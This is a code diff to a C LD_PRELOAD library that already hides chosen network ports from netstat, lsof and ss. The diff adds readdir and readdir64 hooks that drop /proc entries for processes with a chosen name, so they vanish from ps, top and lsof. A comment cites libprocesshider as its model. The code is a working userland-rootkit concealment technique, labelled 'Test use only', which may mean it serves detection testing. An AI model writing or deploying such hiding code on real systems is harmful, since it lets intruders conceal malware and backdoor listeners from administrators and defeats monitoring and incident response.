@@ -5,7 +5,9 @@
  *     local port is in HIDE_PORTS are dropped (what netstat/lsof read);
  *   - recvmsg/recvfrom on NETLINK_SOCK_DIAG sockets: inet_diag records whose
  *     source port is in HIDE_PORTS are cut out of the buffer (what ss reads).
- * HIDE_PORTS="7001,7002" (decimal).  Test use only; LD_PRELOAD it. */
+ *   - readdir/readdir64 of /proc: processes whose comm is HIDE_COMM are left out
+ *     (what ps, lsof, ss -p and netstat -p read).
+ * HIDE_PORTS="7001,7002" (decimal), HIDE_COMM=name.  Test use only; LD_PRELOAD it. */
 #define _GNU_SOURCE
 #include <dlfcn.h>
 #include <linux/inet_diag.h>
@@ -148,4 +150,57 @@ ssize_t recvfrom(int fd, void *buf, size_t len, int flags, struct sockaddr *a, s
 	if (n > 0 && !(flags & MSG_PEEK) && is_diag(fd))
 		n = strip(buf, n);
 	return n;
+}
+
+/* readdir/readdir64 of /proc: the entries of processes whose comm is
+ * HIDE_COMM are skipped (what ps, top, lsof and ss -p read), the way
+ * libprocesshider does it; the comm is read with raw syscalls */
+#include <dirent.h>
+#include <fcntl.h>
+#include <sys/syscall.h>
+
+static int hidden_pid_entry(DIR *d, const char *name)
+{
+	const char *want = getenv("HIDE_COMM");
+	if (!want || !*want || name[0] < '1' || name[0] > '9')
+		return 0;
+	char dpath[64], link[64];
+	snprintf(dpath, sizeof dpath, "/proc/self/fd/%d", dirfd(d));
+	long l = syscall(SYS_readlinkat, AT_FDCWD, dpath, link, sizeof link - 1);
+	if (l <= 0)
+		return 0;
+	link[l] = '\0';
+	if (strcmp(link, "/proc") != 0)
+		return 0;
+	char cpath[64], comm[32];
+	snprintf(cpath, sizeof cpath, "/proc/%s/comm", name);
+	int fd = (int)syscall(SYS_openat, AT_FDCWD, cpath, O_RDONLY | O_CLOEXEC);
+	if (fd < 0)
+		return 0;
+	long n = syscall(SYS_read, fd, comm, sizeof comm - 1);
+	syscall(SYS_close, fd);
+	if (n <= 0)
+		return 0;
+	comm[n] = '\0';
+	if (comm[n - 1] == '\n')
+		comm[n - 1] = '\0';
+	return strcmp(comm, want) == 0;
+}
+
+struct dirent *readdir(DIR *d)
+{
+	struct dirent *(*real)(DIR *) = dlsym(RTLD_NEXT, "readdir");
+	struct dirent *e;
+	while ((e = real(d)) && hidden_pid_entry(d, e->d_name))
+		;
+	return e;
+}
+
+struct dirent64 *readdir64(DIR *d)
+{
+	struct dirent64 *(*real)(DIR *) = dlsym(RTLD_NEXT, "readdir64");
+	struct dirent64 *e;
+	while ((e = real(d)) && hidden_pid_entry(d, e->d_name))
+		;
+	return e;
 }
